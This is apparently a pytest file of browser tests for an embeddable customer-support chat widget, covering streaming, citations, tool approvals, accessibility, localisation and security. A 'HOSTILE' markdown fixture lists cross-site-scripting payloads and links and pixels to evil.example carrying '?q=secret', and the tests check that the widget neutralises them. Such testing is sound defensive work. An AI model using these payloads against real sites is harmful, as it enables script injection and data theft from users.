"""The widget in a browser, on a page of another origin, with a small service whose turns are scripted."""

from __future__ import annotations

import gzip
import time
from collections.abc import Iterator

import pytest

pytest.importorskip("fastapi", reason="the extra serve is not installed")

from browser import Site, start
from fastapi import FastAPI
from fastapi.testclient import TestClient
from mockservice import MockService, mock_app, serving
from sartor.server.widget import router, script

CITED = {
    "citations": [
        {"number": 1, "title": "Delivery › Abroad", "source": "delivery.md",
         "quote": "Delivery abroad takes five to seven working days."},
        {"number": 2, "title": "Returns", "source": "terms.pdf#page=3", "quote": ""},
    ]
}  # fmt: skip
ANSWER = ("Five to seven ", "**working days** [1]. Returns: 30 days [2].", {"finish": CITED})


@pytest.fixture(scope="session")
def sites(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    browser = start(tmp_path_factory.mktemp("chromium"))
    mock, pages = MockService(), {}
    try:
        with serving(mock_app(mock, router, pages=pages)) as port:
            yield Site(browser, mock, pages, port)
    finally:
        browser.quit()


@pytest.fixture
def site(sites: Site) -> Iterator[Site]:
    sites.mock.reset()
    sites.console()
    yield sites
    sites.cdp("Network.emulateNetworkConditions", offline=False, latency=0, downloadThroughput=-1, uploadThroughput=-1)
    sites.cdp("Emulation.setEmulatedMedia", features=[])
    sites.cdp("Emulation.clearDeviceMetricsOverride")
    sites.browser.get("about:blank")
    sites.cdp("Storage.clearDataForOrigin", origin=sites.origin, storageTypes="all")
    sites.pages["empty"] = ("<!doctype html>", {})
    sites.browser.get(f"{sites.origin}/pages/empty")
    sites.browser.execute_script("sessionStorage.clear(); localStorage.clear()")


@pytest.fixture
def keys() -> object:
    return pytest.importorskip("selenium.webdriver").Keys


@pytest.fixture
def served() -> TestClient:
    app = FastAPI()
    app.include_router(router)
    return TestClient(app)


# What is served


def test_the_script_is_small_enough():
    assert len(gzip.compress(script().plain, 9)) <= 25 * 1024
    assert gzip.decompress(script().packed) == script().plain


def test_the_script_is_served_for_any_page_to_embed(served):
    answer = served.get("/widget.js")
    assert answer.headers["content-type"] == "text/javascript; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["access-control-allow-origin"] == "*"
    assert answer.headers["cross-origin-resource-policy"] == "cross-origin"
    assert "max-age" in answer.headers["cache-control"] and answer.headers["vary"] == "Accept-Encoding"
    assert answer.content == script().plain


@pytest.mark.parametrize("encoding", ["gzip", "identity"])
def test_a_browser_that_has_the_script_is_told_so(served, encoding):
    first = served.get("/widget.js", headers={"Accept-Encoding": encoding})
    tag = first.headers["etag"]
    assert tag.startswith('"')
    again = served.get("/widget.js", headers={"Accept-Encoding": encoding, "If-None-Match": f'"other", {tag}'})
    assert again.status_code == 304 and again.headers["etag"] == tag and not again.content


def test_the_compressed_script_has_an_etag_of_its_own(served):
    tags = {served.get("/widget.js", headers={"Accept-Encoding": kind}).headers["etag"] for kind in ("gzip", "br")}
    assert len(tags) == 2


def test_the_script_makes_no_html_of_text():
    text = script().plain.decode()
    for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function", "cssText"):
        assert word not in text
    assert 'setAttribute("style"' not in text


# A conversation


def test_a_page_loads_nothing_of_the_service_before_the_chat_is_opened(site):
    site.visit().find(".launcher")
    assert site.mock.requests == []
    assert site.find(".launcher").get_attribute("aria-expanded") == "false"
    assert site.js("return getComputedStyle(root.querySelector('.panel')).visibility") == "hidden"


def test_the_greeting_and_suggestions_are_shown(site):
    site.visit().open()
    assert site.text(".greeting") == "Acme Support: Hello! How can I help you?"
    assert site.text("h2") == "Acme Support"
    site.find(".suggestions button").click()
    site.until("root.querySelector('.rating')")
    assert site.mock.seen("POST", "/v1/turns")[0][3]["text"] == "How long does delivery take?"
    assert site.count(".suggestions") == 0


def test_a_reply_grows_while_it_streams(site):
    site.visit().open().ask("Hi", "One ", 0.6, "two.", wait=False)
    site.until("root.querySelector('.turn .text').textContent === 'One '.trim()")
    assert site.count(".stop-now, .send:not([hidden])") == 1
    site.until("root.querySelector('.turn .text').textContent === 'One two.'")
    request = site.mock.seen("POST", "/v1/turns")[0]
    assert request[3] == {"bot": "acme/support", "text": "Hi", "language": "en", "stream": True, "keep": 30}
    assert request[2]["authorization"] == "Bearer session-1" and request[2]["idempotency-key"]


def test_dots_stand_where_the_reply_will_be(site):
    site.visit().open().ask("Hi", 0.5, "Yes.", wait=False)
    assert site.find(".dots").get_attribute("aria-label") == "Acme Support is writing"
    site.until("!root.querySelector('.dots')")


def test_the_next_message_goes_on_with_the_conversation(site):
    site.visit().open().ask("One").ask("Two")
    assert [turn[3].get("conversation") for turn in site.mock.seen("POST", "/v1/turns")] == [None, "c1"]


def test_a_citation_opens_the_passage_with_the_quote_marked(site, keys):
    site.visit().open().ask("Abroad?", *ANSWER)
    site.find("button.cite").click()
    assert site.text("mark") == "Delivery abroad takes five to\nseven working days."
    assert site.text(".sheet h2") == "Delivery › Abroad" and site.text(".origin") == "delivery.md"
    assert "We ship to 24 countries." in site.text(".words")
    assert site.focused() == "Back to the conversation"
    assert site.js("return root.querySelector('.main-part').inert")
    site.browser.switch_to.active_element.send_keys(keys.ESCAPE)
    site.until("!root.querySelector('.sheet')")
    assert site.focused() == "Source 1: Delivery › Abroad"
    assert site.js("return chat.isOpen")


def test_a_source_chip_opens_its_passage(site):
    site.visit().open().ask("Abroad?", *ANSWER)
    assert site.js("return [...root.querySelectorAll('.chip')].map((chip) => chip.textContent)") == [
        "1Delivery › Abroad",
        "2Returns",
    ]
    site.js("root.querySelectorAll('.chip')[1].click()")
    assert site.text(".origin") == "terms.pdf · p. 3"
    site.find(".sheet header button").click()
    site.until("!root.querySelector('.sheet')")


def test_a_passage_that_cannot_be_had_can_be_tried_again(site):
    site.visit().open().ask("Abroad?", *ANSWER)
    site.mock.faults.append(("/passages/1", 500, {}))
    site.find("button.cite").click()
    site.find(".sheet .notice button").click()
    assert site.text("mark")


def test_a_number_without_a_source_stays_text(site):
    site.visit().open().ask("x", "See [1] and [7].", {"finish": {"citations": CITED["citations"][:1]}})
    assert site.count("button.cite") == 1
    assert site.text(".turn .text").endswith("and [7].")


def test_tools_are_shown_while_they_run_and_after(site):
    running, done = ({"tool": {"id": "a", "name": "order_status", "state": state}} for state in ("running", "done"))
    failed = {"tool": {"id": "b", "name": "refund", "state": "failed"}}
    site.visit().open().ask("Where?", running, 0.5, done, failed, "On its way.", wait=False)
    site.until("root.querySelector('.step')?.textContent === 'Using order status…'")
    site.until("!root.querySelector('.busy')")
    assert site.js("return [...root.querySelectorAll('.step')].map((step) => step.textContent)") == [
        "Used order status",
        "refund did not work",
    ]


@pytest.mark.parametrize(("button", "approve", "told"), [("main", True, "You approved"), ("quiet", False, "declined")])
def test_a_person_decides_about_a_tool_call(site, button, approve, told):
    call = {"id": "k1", "tool": "cancel_order", "arguments": {"order": "1234", "all": True}, "reason": "it acts"}
    site.visit().open().ask("Cancel it", {"approval": call}, "Very well.", wait=False)
    card = site.find(".approval")
    assert card.get_attribute("role") == "group" and card.get_attribute("aria-label") == "Approve “cancel order”?"
    assert [part in card.text for part in ("1234", "true", "it acts")] == [True] * 3
    site.find(f".approval .{button}").click()
    site.until("!root.querySelector('.busy')")
    assert site.mock.seen("POST", "/approvals/k1")[0][3] == {"approve": approve}
    assert told in site.text(".step") and site.count(".approval") == 0


def test_feedback_is_sent_with_a_comment(site):
    site.visit().open().ask("Hi")
    site.find(".rating button:last-child").click()
    site.find(".comment textarea").send_keys("Too short")
    assert site.find(".rating button:last-child").get_attribute("aria-pressed") == "true"
    site.find(".comment button").click()
    site.until("root.querySelector('.rating .note')")
    assert [request[3] for request in site.mock.seen("PUT", "/feedback")] == [
        {"score": -1},
        {"score": -1, "comment": "Too short"},
    ]


def test_a_reply_can_be_stopped(site):
    site.visit().open().ask("Hi", "Begun", 30.0, " ended", wait=False)
    site.until("root.querySelector('.turn .text').textContent === 'Begun'")
    site.find(".send[aria-label=Stop]").click()
    site.until("!root.querySelector('.busy')")
    assert site.mock.seen("POST", "/cancel")
    assert site.text(".turn .text") == "Begun" and site.text(".foot .note") == "Stopped."


def test_a_new_conversation_can_be_begun_and_left_again(site):
    site.visit().open().ask("One", "First answer.")
    site.find("button[aria-label='New conversation']").click()
    site.until("root.querySelector('.greeting') && !root.querySelector('.turn')")
    site.ask("Two", "Second answer.")
    assert site.mock.seen("POST", "/v1/turns")[1][3].get("conversation") is None
    site.find(".log > .notice button").click()
    site.until("root.querySelector('.turn')?.textContent.includes('First answer.')")
    assert "Second answer." not in site.log()


# Coming back


def test_a_reload_shows_the_conversation_again(site):
    site.visit().open().ask("Abroad?", *ANSWER)
    site.visit()
    site.until("root.querySelectorAll('button.cite').length === 2")  # the panel is open again, as it was
    assert "Abroad?" in site.log() and site.count(".greeting") == 0
    assert site.mock.seen("POST", "/v1/sessions")[1][3]["session"] == "session-1"
    site.ask("And then?", "Then.")
    assert site.mock.seen("POST", "/v1/turns")[1][3]["conversation"] == "c1"


def test_a_reload_goes_on_with_the_turn_that_runs(site):
    site.visit().open().ask("Long?", "Begun ", 1.5, "and ended.", wait=False)
    site.until("root.querySelector('.turn .text').textContent === 'Begun'")
    site.visit()
    site.until("root.querySelector('.turn .text')?.textContent === 'Begun and ended.'")
    assert "Long?" in site.log() and len(site.mock.seen("POST", "/v1/turns")) == 1


def test_what_a_browser_remembers_can_be_gone(site):
    site.visit().open().ask("One")
    site.mock.conversations.clear()
    site.mock.turns.clear()
    site.visit()
    site.find(".greeting")
    assert site.count(".turn") == 0


def test_the_session_of_a_signed_user_is_not_left_in_the_browser(site):
    site.visit('data-token="signed"').open().ask("Hi")
    assert site.mock.seen("POST", "/v1/sessions")[0][3]["token"] == "signed"
    kept = site.browser.execute_script("return JSON.stringify(localStorage)")
    assert "session-1" not in kept and "signed" not in kept and "c1" in kept


def test_a_page_is_asked_for_a_fresh_token(site):
    site.visit('data-token="expired"')
    site.js("chat.refreshToken = async () => 'fresh'")
    site.open()
    assert [request[3]["token"] for request in site.mock.seen("POST", "/v1/sessions")] == ["expired", "fresh"]
    assert site.count(".greeting") == 1


def test_another_token_begins_another_session(site):
    site.visit('data-token="one"').open().ask("Hi")
    site.mock.conversations.clear()
    site.js("chat.token = 'two'")
    site.until("!root.querySelector('.turn') && root.querySelector('.greeting')")
    assert [request[3]["token"] for request in site.mock.seen("POST", "/v1/sessions")] == ["one", "two"]


def test_a_session_that_ran_out_is_replaced(site):
    site.visit().open().ask("One")
    site.mock.faults.append(("/v1/turns", 401, {}))
    site.ask("Two", "Yes.")
    assert "Yes." in site.log() and len(site.mock.seen("POST", "/v1/sessions")) == 2


# When something goes wrong


def test_a_stream_that_breaks_is_taken_up_where_it_broke(site):
    site.visit().open().ask("Hi", "One ", {"drop": True}, "two ", {"drop": True}, "three.")
    assert site.text(".turn .text") == "One two three."
    assert [request[2].get("last-event-id") for request in site.mock.seen("GET", "/events")] == ["2", "3"]
    assert len(site.mock.seen("POST", "/v1/turns")) == 1 and site.count(".banner:not(:empty)") == 0


def test_a_request_that_was_lost_is_repeated_with_the_same_key(site):
    site.visit().open()
    site.cdp("Network.emulateNetworkConditions", offline=True, latency=0, downloadThroughput=-1, uploadThroughput=-1)
    site.until("root.querySelector('.banner').textContent.startsWith('You are offline')")
    site.ask("Hi", "Here.", wait=False)
    time.sleep(0.2)
    site.cdp("Network.emulateNetworkConditions", offline=False, latency=0, downloadThroughput=-1, uploadThroughput=-1)
    site.until("root.querySelector('.turn .text').textContent === 'Here.'")
    site.until("!root.querySelector('.banner').textContent")
    assert len({request[2]["idempotency-key"] for request in site.mock.seen("POST", "/v1/turns")}) == 1


def test_a_full_service_is_waited_for(site):
    site.visit().open()
    site.mock.faults.append(("/v1/turns", 429, {"Retry-After": "2"}))
    site.ask("Hi", "Here.", wait=False)
    site.until("/Trying again in [12] s/.test(root.querySelector('.banner').textContent)")
    site.until("root.querySelector('.turn .text').textContent === 'Here.'")
    assert site.js("return root.querySelector('.banner').textContent") == ""


def test_a_turn_that_fails_can_be_tried_again(site):
    site.visit().open().ask("Hi", "Beg", {"error": "inside"})
    assert site.text(".turn .notice span") == "Something went wrong."
    assert "inside" not in site.log()
    site.mock.script = ["All of it."]
    site.find(".turn .notice button").click()
    site.until("root.querySelector('.turn .text').textContent === 'All of it.'")
    first, second = (request[2]["idempotency-key"] for request in site.mock.seen("POST", "/v1/turns"))
    assert first != second and site.count(".turn") == 1 and site.count(".turn .notice") == 0


def test_a_page_that_may_not_hold_the_bot_says_so(site):
    site.mock.faults.append(("/v1/sessions", 403, {}))
    site.visit().open()
    assert site.text(".notice span") == "The chat is not available here." and site.count(".notice button") == 0


def test_a_chat_that_could_not_begin_can_be_tried_again(site):
    site.mock.faults.append(("/v1/sessions", 500, {}))
    site.visit().open()
    site.find(".notice button").click()
    site.find(".greeting")


def test_a_message_that_is_too_long_is_not_sent(site):
    site.mock.bot["question_characters"] = 20
    site.visit().open().find(".box textarea").send_keys("a" * 19)
    assert site.text(".count") == "1 characters left"
    site.find(".box textarea").send_keys("bbb")
    assert site.text(".count") == "2 characters too many"
    assert site.find(".box textarea").get_attribute("aria-invalid") == "true"
    assert not site.find(".send").is_enabled()


# For the page


def test_the_page_can_steer_the_chat_and_hears_what_happens(site):
    site.visit("data-title='Ask us'")
    site.js("""
        window.heard = [];
        for (const name of ["open", "ready", "message", "reply", "feedback", "restart", "close"])
            document.addEventListener(`sartor:${name}`, (event) => heard.push([name, event.detail]));
        chat.send("Hello there");
    """)
    site.until("root.querySelector('.rating')")
    assert site.text("h2") == "Ask us"
    site.find(".rating button").click()
    site.until("root.querySelector('.comment')")
    site.js("chat.restart(); chat.close()")
    heard = site.js("return heard")
    names = [name for name, _ in heard]
    assert names == ["open", "ready", "message", "reply", "feedback", "restart", "close"]
    told = dict(heard)
    assert told["message"] == {"text": "Hello there"} and told["reply"]["turn"]["text"] == "Hello."
    assert not site.js("return chat.isOpen") and site.js("return chat.conversation") == ""


def test_data_open_opens_the_chat_without_taking_the_focus(site):
    site.visit("data-open")
    site.find(".greeting")
    assert site.js("return document.activeElement === document.body")


def test_an_element_that_the_page_places_fills_its_place(site):
    body = '<div id="box"><sartor-chat data-bot="acme/support" data-position="inline"></sartor-chat></div>'
    site.pages["inline"] = (
        f'<!doctype html><html lang="en"><body>{body}<script src="{site.service}/widget.js"></script></body></html>', {}
    )  # fmt: skip
    site.browser.get(f"{site.origin}/pages/inline")
    site.find(".greeting")
    assert site.js("return document.querySelectorAll('sartor-chat').length") == 1
    assert not site.find(".launcher").is_displayed() and site.find(".box textarea").is_displayed()


def test_variables_of_the_page_change_the_looks(site):
    site.visit(body="<style>sartor-chat { --sartor-accent: rgb(1, 99, 9); --sartor-width: 333px }</style>").open()
    assert site.js("return getComputedStyle(root.querySelector('.launcher')).backgroundColor") == "rgb(1, 99, 9)"
    assert site.js("return root.querySelector('.panel').offsetWidth") == 333


# For everybody


def test_everything_can_be_done_with_the_keyboard(site, keys):
    site.visit()
    at = lambda: site.browser.switch_to.active_element  # noqa: E731
    site.find(".launcher")
    site.js("document.activeElement.blur(); window.focus()")
    at().send_keys(keys.TAB)
    assert site.focused() == "Open chat"
    at().send_keys(keys.ENTER)
    site.find(".greeting")
    site.until("root.activeElement?.localName === 'textarea'")
    at().send_keys("Abroad?", keys.SHIFT + keys.ENTER + keys.NULL, "Please")
    site.mock.script = list(ANSWER)
    at().send_keys(keys.ENTER)
    site.find(".rating")
    assert site.mock.seen("POST", "/v1/turns")[0][3]["text"] == "Abroad?\nPlease"
    passed = []
    while len(passed) < 12 and not site.focused().startswith("Source 1"):
        at().send_keys(keys.SHIFT + keys.TAB + keys.NULL)
        passed.append(site.focused())
    assert "Bad answer" in passed and "Source 2: Returns" in passed
    at().send_keys(keys.SPACE)
    site.find("mark")
    at().send_keys(keys.ESCAPE)
    site.until("!root.querySelector('.sheet')")
    at().send_keys(keys.ESCAPE)
    site.until("!chat.isOpen")
    assert site.focused() == "Open chat"


def test_the_focus_can_be_seen(site, keys):
    site.visit().open()
    site.browser.switch_to.active_element.send_keys(keys.SHIFT + keys.TAB + keys.NULL)
    seen = "getComputedStyle(root.activeElement)"
    assert site.js(f"return {seen}.outlineStyle") == "solid" and site.js(f"return {seen}.outlineWidth") == "2px"


def test_roles_and_names_are_there_for_a_screen_reader(site):
    site.visit().open().ask("Abroad?", *ANSWER)
    panel, log, launcher = site.find(".panel"), site.find(".log"), site.find(".launcher")
    assert panel.get_attribute("role") == "dialog" and panel.accessible_name == "Acme Support"
    assert panel.get_attribute("aria-modal") == "false"
    assert log.get_attribute("role") == "log" and log.get_attribute("aria-live") == "polite"
    assert log.get_attribute("tabindex") == "0" and log.accessible_name == "Conversation"
    assert launcher.get_attribute("aria-expanded") == "true" and launcher.accessible_name == "Close chat"
    assert site.find(".box textarea").accessible_name == "Message"
    assert site.js("return [...root.querySelectorAll('button')].filter((b) => !(b.ariaLabel || b.textContent)).length") == 0
    assert site.text(".speaker") == "Acme Support: Five to seven working days 1. Returns: 30 days 2."
    assert site.find(".bubble:not(.mine)").get_attribute("aria-live") is None or site.count("[aria-live=off]") == 2


def test_everything_that_can_be_pressed_is_large_enough(site):
    site.visit().open().ask("Abroad?", *ANSWER)
    small = """
        return [...root.querySelectorAll('button, textarea')].filter((node) => {
            const box = node.getBoundingClientRect(), more = getComputedStyle(node, '::after');
            const around = node.matches('.cite') ? 6 : 0;  // its ::after is larger than it
            return box.width && (box.width + around < 24 || box.height + around < 24);
        }).map((node) => node.className);
    """
    assert site.js(small) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground(site, scheme):
    site.visit(f'data-theme="{scheme}"').open().ask("Abroad?", *ANSWER)
    pale = """
        const paint = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
        const rgba = (color) => {
            paint.clearRect(0, 0, 1, 1); paint.fillStyle = color; paint.fillRect(0, 0, 1, 1);
            return [...paint.getImageData(0, 0, 1, 1).data].map((value) => value / 255);
        };
        const ground = (node) => {
            const layers = [];
            for (let at = node; at; at = at.parentElement) layers.push(rgba(getComputedStyle(at).backgroundColor));
            return layers.reverse().reduce((under, [r, g, b, a]) =>
                [r, g, b].map((value, i) => value * a + under[i] * (1 - a)), [1, 1, 1]);
        };
        const light = (color) => color.slice(0, 3).map((v) => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
            .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
        const ratio = (one, two) => { const [a, b] = [light(one), light(two)].sort((x, y) => y - x); return (a + .05) / (b + .05); };
        return [...root.querySelectorAll('.panel *')]
            .filter((node) => [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim()) && !node.matches('.spoken'))
            .map((node) => [node.className || node.localName, ratio(rgba(getComputedStyle(node).color), ground(node))])
            .filter(([, found]) => found < 4.5);
    """
    assert site.js(pale) == []


def test_the_browser_s_dark_scheme_is_followed(site):
    site.cdp("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": "dark"}])
    site.visit().open()
    assert site.js("return getComputedStyle(root.querySelector('.panel')).backgroundColor") == "rgb(21, 23, 28)"
    site.js("chat.dataset.theme = 'light'")
    assert site.js("return getComputedStyle(root.querySelector('.panel')).backgroundColor") == "rgb(255, 255, 255)"


def test_movement_stops_for_those_who_ask_for_it(site):
    site.cdp("Emulation.setEmulatedMedia", features=[{"name": "prefers-reduced-motion", "value": "reduce"}])
    site.visit().open().ask("Hi", 0.5, "Yes.", wait=False)
    moving = "parseFloat(getComputedStyle(root.querySelector('.dots i')).animationDuration) < 0.001"
    assert site.until(f"root.querySelector('.dots i') && {moving}")


def test_forced_colours_keep_their_edges(site):
    site.cdp("Emulation.setEmulatedMedia", features=[{"name": "forced-colors", "value": "active"}])
    site.visit().open()
    assert site.js("return getComputedStyle(root.querySelector('.greeting')).borderTopWidth") == "1px"


def test_on_a_phone_the_chat_covers_the_page_and_keeps_the_focus(site, keys):
    site.cdp("Emulation.setDeviceMetricsOverride", width=390, height=780, deviceScaleFactor=2, mobile=True)
    site.visit().open()
    time.sleep(0.4)
    box = site.js("return root.querySelector('.panel').getBoundingClientRect().toJSON()")
    assert (box["x"], box["y"], box["width"], box["height"]) == (0, 0, 390, 780)
    assert site.find(".panel").get_attribute("aria-modal") == "true" and not site.find(".launcher").is_displayed()
    assert float(site.js("return parseFloat(getComputedStyle(root.querySelector('.box textarea')).fontSize)")) >= 16
    assert site.js("return document.documentElement.scrollWidth") == 390
    for _ in range(9):
        site.browser.switch_to.active_element.send_keys(keys.TAB)
        assert site.js("return document.activeElement === chat && root.activeElement !== null")


@pytest.mark.parametrize(
    ("attributes", "html"),
    [("", 'lang="en" dir="rtl"'), ('data-language="ar"', 'lang="en"'), ('data-dir="rtl"', 'lang="en"')],
)
def test_right_to_left_turns_the_chat_around(site, attributes, html):
    site.visit(attributes, html=html).open().ask("Hi", "مرحبا")
    place = "root.querySelector({!r}).getBoundingClientRect()".format
    assert site.js(f"return {place('.launcher')}.right < innerWidth / 2 && {place('.panel')}.left < 100")
    assert site.js(f"return {place('.mine')}.left < {place('.turn .bubble:not(.mine)')}.left")
    assert site.js(f"return {place('header .avatar')}.left > {place('header .closer')}.left")
    assert site.js("return getComputedStyle(root.querySelector('.turn .text')).direction") == "rtl"


@pytest.mark.parametrize(("attributes", "html"), [("", 'lang="fr-CA"'), ('data-language="fr"', 'lang="en"')])
def test_french_pages_have_a_french_chat(site, attributes, html):
    site.visit(attributes, html=html).open().ask("Bonjour")
    assert site.find(".launcher").accessible_name == "Fermer la discussion"
    assert site.find(".rating button").accessible_name == "Bonne réponse"
    assert site.js("return root.querySelector('.root').lang") == "fr"
    assert site.mock.seen("POST", "/v1/turns")[0][3]["language"] == "fr"


def test_both_languages_have_the_same_texts(site):
    keys = site.visit().js(
        "const {texts} = customElements.get('sartor-chat'); return Object.values(texts).map((one) => Object.keys(one))"
    )
    assert keys[0] == keys[1]


# Nothing comes in


STRICT = (
    "default-src 'none'; script-src {0}; connect-src {0}; img-src data:; base-uri 'none'; form-action 'none'; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)


def test_a_strict_content_security_policy_is_kept(site):
    watch = "addEventListener('securitypolicyviolation', (e) => (window.broken ||= []).push(e.violatedDirective))"
    made = site.browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": watch})
    call = {"id": "k1", "tool": "cancel_order", "arguments": {"order": "1"}, "reason": "it acts"}
    try:
        site.visit(csp=STRICT.format(site.service)).open().ask("Abroad?", {"approval": call}, *ANSWER, wait=False)
        site.find(".approval .main").click()
        site.find(".rating button").click()
        site.find(".comment textarea").send_keys("x" * 90)
        site.find("button.cite").click()
        site.find("mark")
        assert site.js("return window.broken ?? []") == []
        # The policy does hold here: what it forbids is refused.
        site.js("const s = document.createElement('style'); s.textContent = 'p{}'; document.head.append(s)")
        site.until("window.broken?.length === 1")
    finally:
        site.cdp("Page.removeScriptToEvaluateOnNewDocument", **made)


HOSTILE = r"""
<script>window.owned = 1</script>

<img src=x onerror="window.owned = 1"> <svg onload="window.owned = 1"><iframe srcdoc="<script>parent.owned=1</script>">

[one](javascript:window.owned=1) [two](JaVaScRiPt:window.owned=1) [three](java&#x0a;script:alert(1)) [f](&#106;avascript:1)

[data](data:text/html,<script>window.owned=1</script>) [blob](blob:https://x/y) [file](file:///etc/passwd) [vb](vbscript:x)

[elsewhere](https://evil.example/?q=secret) ![pixel](https://evil.example/p.png?q=secret) ![js](javascript:window.owned=1)

[user](https://help.acme.example@evil.example/) [user](https://help.acme.example:pw@help.acme.example/)

[sub](https://evil.example/help.acme.example) [suffix](https://xhelp.acme.example/) [bare](//evil.example/x) [rel](/admin)

https://evil.example/bare <https://evil.example/angle> <javascript:window.owned=1> <a href="javascript:window.owned=1">x</a>

[quote](https://help.acme.example/"onmouseover="window.owned=1) [x]("><img src=x onerror=window.owned=1>)

[![inner](https://evil.example/i.png)](https://evil.example/)

| a | b |
|---|---|
| <img src=x onerror=window.owned=1> | [x](javascript:window.owned=1) |

- <b onclick="window.owned=1">bold</b>
> <style>*{display:none}</style> <link rel=stylesheet href=//evil.example> <base href=//evil.example>

```html
<script>window.owned = 1</script>
```
"""


def test_hostile_markdown_stays_text(site):
    site.visit().open().ask("x", HOSTILE, "\n\n[good](https://help.acme.example/a?b=c#d) **end**")
    text = site.find(".turn .text")
    assert site.text(".turn strong") == "end" and "<script>window.owned = 1</script>" in text.text
    found = "[...root.querySelectorAll('.text *')]"
    names = set(site.js(f"return {found}.map((node) => node.localName)"))
    assert names <= set("p br a span strong em del code pre div table thead tbody tr th td ul ol li blockquote".split())
    attributes = set(site.js(f"return {found}.flatMap((node) => node.getAttributeNames())"))
    assert attributes <= {"href", "rel", "target", "class", "tabindex", "dir", "role", "scope"}
    links = site.js("return [...root.querySelectorAll('.text a')].map((a) => a.href)")
    assert links[-1] == "https://help.acme.example/a?b=c#d"
    assert {link.split("/")[2] for link in links} == {"help.acme.example"}
    assert site.js("return [...root.querySelectorAll('.text a')].every((a) => a.rel.includes('noopener') && a.target === '_blank')")
    assert site.js("return window.owned") is None
    assert "elsewhere (https://evil.example/?q=secret)" in text.text


def test_images_are_shown_from_listed_hosts_only(site):
    site.visit().open().ask("x", "![a](https://img.acme-cdn.example/a.png) ![b](https://evil.example/b.png)")
    images = site.js("return [...root.querySelectorAll('.text img')].map((i) => [i.src, i.alt, i.referrerPolicy])")
    assert images == [["https://img.acme-cdn.example/a.png", "a", "no-referrer"]]
    assert site.text(".turn .text").strip() == "b"


MARKDOWN = """# Title

Some **bold**, *soft*, ***both***, ~~gone~~, `code *x*`, snake_case_name, 2 * 3 * 4, \\*plain\\*.
Second line.

1. one
2. two
   - inner **x**
   - more

3. three

> said

```python
def f():
    return "*"
```

| A | B |
|---|--:|
| 1 | `2` |

---
* last [link](https://help.acme.example)
"""


def test_markdown_becomes_elements(site):
    pieces = [MARKDOWN[at : at + 7] for at in range(0, len(MARKDOWN), 7)]
    site.visit().open().ask("x", *pieces)
    shape = """
        const show = (node) => node.nodeType === 3 ? node.data
            : node.className === 'spoken' ? '' : `<${node.localName}>${[...node.childNodes].map(show).join('')}</>`;
        return [...root.querySelector('.turn .text').childNodes].map(show);
    """
    assert site.js(shape) == [
        "<p>Title</>",
        "<p>Some <strong>bold</>, <em>soft</>, <strong><em>both</></>, <del>gone</>, <code>code *x*</>, "
        "snake_case_name, 2 * 3 * 4, *plain*.<br></>Second line.</>",
        "<ol><li>one</><li>two<ul><li>inner <strong>x</></><li>more</></></><li>three</></>",
        "<blockquote><p>said</></>",
        '<pre><code>def f():\n    return "*"</></>',
        "<div><table><thead><tr><th>A</><th>B</></></><tbody><tr><td>1</><td><code>2</></></></></></>",
        "<hr></>",
        "<ul><li>last <a>link</></></>",
    ]
    assert site.js("return root.querySelector('.text [role=heading]').ariaLevel") == "3"


@pytest.mark.parametrize(
    "text", ["*a " * 4000, "[" * 8000, "`" * 3999 + " `" * 2000, "> " * 3000, "_" * 9000, "- " * 3000, "http://" * 1500]
)
def test_no_text_holds_the_page_up(site, text):
    began = time.monotonic()
    site.visit().open().ask("x", text)
    assert site.count(".rating") == 1 and time.monotonic() - began < 6
